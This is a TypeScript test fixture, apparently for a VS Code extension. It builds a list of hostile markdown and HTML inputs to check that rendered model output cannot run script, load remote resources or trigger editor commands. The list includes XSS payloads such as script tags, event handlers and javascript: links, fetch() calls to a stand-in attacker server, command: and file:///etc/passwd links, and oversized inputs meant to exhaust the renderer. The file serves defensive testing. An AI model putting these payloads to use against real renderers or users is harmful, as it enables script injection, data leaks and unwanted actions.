// Model output that tries to run script, load remote resources or reach VS Code commands. Every
// URL points at the local "attacker" server, which must see zero requests.

export interface HostileCase {
  name: string;
  markdown: string;
}

export function hostileCorpus(attacker: string): HostileCase[] {
  const hit = (path: string) => `${attacker}/${path}`;
  const js = (path: string) => `fetch('${hit(path)}');window.top.__pwned='${path}'`;
  return [
    { name: "script tag", markdown: `Hello <script>${js("script")}</script> world` },
    { name: "script src", markdown: `<script src="${hit("script-src.js")}"></script>` },
    { name: "img onerror", markdown: `<img src="x" onerror="${js("onerror")}">` },
    { name: "remote html img", markdown: `<img src="${hit("html-img.png")}">` },
    { name: "svg onload", markdown: `<svg onload="${js("svg")}"><circle r="1"/></svg>` },
    { name: "svg image", markdown: `<svg><image href="${hit("svg-image.png")}"/></svg>` },
    { name: "iframe", markdown: `<iframe src="${hit("iframe")}"></iframe>` },
    { name: "iframe srcdoc", markdown: `<iframe srcdoc="<script>${js("srcdoc")}</script>"></iframe>` },
    { name: "meta refresh", markdown: `<meta http-equiv="refresh" content="0;url=${hit("meta-refresh")}">` },
    {
      name: "css url",
      markdown: `<div style="background:url(${hit("css-url.png")})">x</div>\n\n<style>body{background:url(${hit("style-tag.png")})}</style>`,
    },
    { name: "link stylesheet", markdown: `<link rel="stylesheet" href="${hit("style.css")}">` },
    { name: "base href", markdown: `<base href="${hit("base/")}">[rel](relative)` },
    {
      name: "object embed video",
      markdown: `<object data="${hit("object")}"></object><embed src="${hit("embed")}"><video poster="${hit("poster.png")}" src="${hit("video")}"></video><audio src="${hit("audio")}"></audio>`,
    },
    { name: "form", markdown: `<form action="${hit("form")}"><button>go</button></form>` },
    { name: "markdown image", markdown: `![tracking pixel](${hit("md-image.png")})` },
    { name: "reference image", markdown: `![ref image][pixel]\n\n[pixel]: ${hit("ref-image.png")}` },
    { name: "image in link", markdown: `[![badge](${hit("badge.svg")})](${hit("badge-link")})` },
    { name: "javascript link", markdown: `[click me](javascript:${encodeURIComponent(js("js-link"))})` },
    { name: "javascript link mixed case", markdown: `[click](JaVaScRiPt:${js("js-link-2")})` },
    {
      name: "command link",
      markdown: `[open terminal](command:workbench.action.terminal.new) and [settings](command:workbench.action.openSettings?%5B%22mixtral%22%5D)`,
    },
    {
      name: "vscode link",
      markdown: `[install](vscode:extension/evil.publisher) [file](file:///etc/passwd) [data](data:text/html,<script>alert(1)</script>)`,
    },
    { name: "html anchor", markdown: `<a href="${hit("html-anchor")}" onclick="${js("anchor-click")}">anchor</a>` },
    { name: "autolink", markdown: `See <${hit("autolink")}> and ${hit("linkify")}` },
    {
      name: "event handler attrs",
      markdown: `<details open ontoggle="${js("ontoggle")}"><summary>s</summary></details><body onload="${js("body-onload")}">`,
    },
    { name: "math/mathml", markdown: `<math><mtext><table><mglyph><style><img src=x onerror="${js("mathml")}">` },
    { name: "unclosed fence", markdown: "```html\n<script>" + js("fence") + '</script>\n<img src="' + hit("fence.png") + '">' },
    { name: "deeply nested lists", markdown: Array.from({ length: 300 }, (_, i) => `${"  ".repeat(i)}- level ${i}`).join("\n") },
    { name: "deeply nested quotes", markdown: `${">".repeat(500)} deep` },
    { name: "5 MB line", markdown: `${"A".repeat(5 * 1024 * 1024)} ![x](${hit("after-5mb.png")})` },
  ];
}
